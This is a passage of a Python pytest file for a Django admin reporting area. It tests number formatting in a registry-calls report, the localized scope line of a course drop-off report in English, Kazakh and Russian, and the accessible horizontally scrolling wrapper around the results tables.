    day = {"period_from": TODAY.isoformat(), "period_to": TODAY.isoformat()}

    html = admin_client.get("/admin/figures/registry-calls/", day).content.decode()
    first_row = html.split("<tbody>")[1].split("</tr>")[0]
    cells = re.findall(r'<td class="figure">\s*(.*?)\s*</td>', first_row, re.S)
    assert cells == ["12\xa0345", "2", "", "", "", "1\xa0000\xa0000"]
    summary = re.search(r"data-report-summary>(.*?)</p>", html).group(1)
    totals = tr("In all — calls: %(calls)s; answered: %(answered)s.", language)
    assert summary == totals % {"calls": "12\xa0351", "answered": "6"}

    drop_off = admin_client.get("/admin/figures/drop-off/").content.decode()
    shares = re.findall(r'<td class="figure">\s*([\d,]+)\s*</td>', drop_off)
    assert "100,0" in shares and not any("." in share for share in shares)


@pytest.mark.django_db
def test_the_drop_offs_scope_says_its_cohort_and_filters(
    admin_client, english_admin, activity
):
    """What the drop-off counts: the course, when its learners started, and the
    language and region chosen, as the other reports state their period."""
    url = "/admin/figures/drop-off/results/"

    def scope(query, language="en"):
        profile = UserProfile.get_for_user(english_admin)
        profile.preferred_language = language
        profile.save()
        html = admin_client.get(url, query).content.decode()
        return re.search(r"data-report-scope>(.*?)</p>", html).group(1)

    assert scope({}) == "Course: Бақытты отбасы; Started in: any time"
    assert scope(
        {"period_from": "2026-11-01", "period_to": "2026-11-30"}
        | {"language": "ru", "region": "astana"}
    ) == (
        "Course: Бақытты отбасы; Started in: 01.11.2026 – 30.11.2026; "
        "Language: Русский; Region: Astana city"
    )
    assert scope({"period_from": "2026-11-01", "region": "none"}) == (
        "Course: Бақытты отбасы; Started in: from 01.11.2026; Region: Not stated"
    )
    for language in ("kk", "ru"):
        started, upto = tr("Started in", language), tr("up to %(day)s", language)
        assert scope({"period_to": "2026-11-30"}, language) == (
            f"{tr('Course', language)}: Бақытты отбасы; "
            f"{started}: {upto % {'day': '30.11.2026'}}"
        )
        assert scope({}, language).endswith(f"{started}: {tr('any time', language)}")


@pytest.mark.django_db
@pytest.mark.parametrize("slug", ["learners", "drop-off", "registry-calls"])
def test_the_table_scrolls_sideways_in_a_region_of_its_own(
    admin_client, english_admin, activity, registry_activity, slug
):
    """The admin's content wrapper hides what overflows it; the results table sits
    in a region that scrolls sideways and that the keyboard can reach."""
    html = admin_client.get(
        f"/admin/figures/{slug}/results/", {"period_from": TODAY.isoformat()}
    ).content.decode()
    region = re.search(r"<div ([^>]*data-report-table[^>]*)>\s*<table", html)
    assert region, "the table is not in its scrolling region"
    attrs = dict(re.findall(r'([\w-]+)="([^"]*)"', region.group(1)))
    assert "w-overflow-x-auto" in attrs["class"].split()
    assert (attrs["role"], attrs["tabindex"]) == ("region", "0")
    assert attrs["aria-label"]
